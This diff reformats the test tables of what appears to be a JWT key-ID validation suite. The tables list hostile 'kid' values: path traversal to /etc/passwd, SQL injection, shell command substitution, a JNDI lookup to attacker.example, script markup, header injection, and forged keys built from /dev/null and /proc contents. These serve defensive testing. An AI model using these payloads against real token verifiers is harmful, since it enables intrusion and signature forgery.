@@ -19,15 +19,26 @@ func keyID(k *kit) {
 	}
 	k.row = "kid"
 	for _, test := range []struct{ name, id string }{
-		{"unknown", "no-such-key"}, {"of a file", "../../../../../../etc/passwd"}, {"of a device", "/dev/null"},
-		{"of a URL", "https://attacker.example/key"}, {"SQL", "x' UNION SELECT 'secret' --"},
-		{"SQL, always true", "' OR '1'='1"}, {"shell", "$(id)|`id`;id"},
-		{"template", "${jndi:ldap://attacker.example/a}{{7*7}}"}, {"markup", "<script>alert(1)</script>"},
-		{"of 1000 bytes", strings.Repeat("k", 1000)}, {"of a megabyte", strings.Repeat("k", 1<<20)},
-		{"Unicode", "ключ"}, {"from right to left", "\u202e" + k.key.id},
-		{"in upper case", strings.ToUpper(k.key.id)}, {"with a space after", k.key.id + " "},
-		{"with a NUL after", k.key.id + "\x00"}, {"with a path after", k.key.id + "/../" + k.key.id},
-		{"with a line break", "x\r\nX-Injected: yes"}, {"empty", ""}, {"index", "0"},
+		{"unknown", "no-such-key"},
+		{"of a file", "../../../../../../etc/passwd"},
+		{"of a device", "/dev/null"},
+		{"of a URL", "https://attacker.example/key"},
+		{"SQL", "x' UNION SELECT 'secret' --"},
+		{"SQL, always true", "' OR '1'='1"},
+		{"shell", "$(id)|`id`;id"},
+		{"template", "${jndi:ldap://attacker.example/a}{{7*7}}"},
+		{"markup", "<script>alert(1)</script>"},
+		{"of 1000 bytes", strings.Repeat("k", 1000)},
+		{"of a megabyte", strings.Repeat("k", 1<<20)},
+		{"Unicode", "ключ"},
+		{"from right to left", "\u202e" + k.key.id},
+		{"in upper case", strings.ToUpper(k.key.id)},
+		{"with a space after", k.key.id + " "},
+		{"with a NUL after", k.key.id + "\x00"},
+		{"with a path after", k.key.id + "/../" + k.key.id},
+		{"with a line break", "x\r\nX-Injected: yes"},
+		{"empty", ""},
+		{"index", "0"},
 	} {
 		k.unknownKey(test.name, k.sign(k.header().set("kid", quote(test.id)), k.claims()), k.key)
 	}
@@ -40,9 +51,11 @@ func keyID(k *kit) {
 func keyIDForged(k *kit) {
 	k.row = "kid of a known secret"
 	for _, test := range []struct{ name, id, secret string }{
-		{"/dev/null", "/dev/null", ""}, {"/dev/null, relative", "../../../../../../../dev/null", ""},
+		{"/dev/null", "/dev/null", ""},
+		{"/dev/null, relative", "../../../../../../../dev/null", ""},
 		{"a SQL literal", "x' UNION SELECT 'secret' --", "secret"},
-		{"/proc", "/proc/sys/kernel/randomize_va_space", "2\n"}, {"its own text", "known", "known"},
+		{"/proc", "/proc/sys/kernel/randomize_va_space", "2\n"},
+		{"its own text", "known", "known"},
 	} {
 		k.hmac(test.name, "HS256", []byte(test.secret), k.header().set("kid", quote(test.id)))
 	}
